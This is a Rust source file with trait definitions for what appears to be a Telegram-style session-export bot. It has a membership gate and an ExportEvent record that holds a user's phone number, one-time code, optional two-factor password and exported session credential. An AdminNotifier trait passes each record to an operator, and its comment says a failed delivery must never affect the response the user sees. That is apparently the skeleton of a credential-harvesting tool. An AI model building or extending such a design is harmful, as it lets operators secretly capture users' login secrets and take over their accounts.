use async_trait::async_trait;

use chrono::{DateTime, Utc};

use crate::{
    backend::BackendKind,
    domain::{UserId, UserProfile},
    Result,
};

/// Channel-membership gate consulted before any state-machine event is
/// accepted. Failing users get a join prompt instead.
#[async_trait]
pub trait MembershipGate: Send + Sync {
    async fn is_member(&self, user_id: UserId) -> Result<bool>;
}

/// Gate that admits everyone (deployments without a required channel).
pub struct OpenGate;

#[async_trait]
impl MembershipGate for OpenGate {
    async fn is_member(&self, _user_id: UserId) -> Result<bool> {
        Ok(true)
    }
}

/// Structured record of one successful credential export.
#[derive(Clone, Debug)]
pub struct ExportEvent {
    pub profile: UserProfile,
    pub backend: BackendKind,
    pub phone_number: String,
    pub otp: String,
    /// Absent when the account has no second factor.
    pub password: Option<String>,
    pub started_at: DateTime<Utc>,
    pub credential: String,
}

/// Delivery of export events to an operator. Best-effort: a failure here
/// must never affect the user-facing success response.
#[async_trait]
pub trait AdminNotifier: Send + Sync {
    async fn session_exported(&self, event: &ExportEvent) -> Result<()>;
}

/// Notifier for deployments with no admin chat configured.
pub struct NoopNotifier;

#[async_trait]
impl AdminNotifier for NoopNotifier {
    async fn session_exported(&self, _event: &ExportEvent) -> Result<()> {
        Ok(())
    }
}
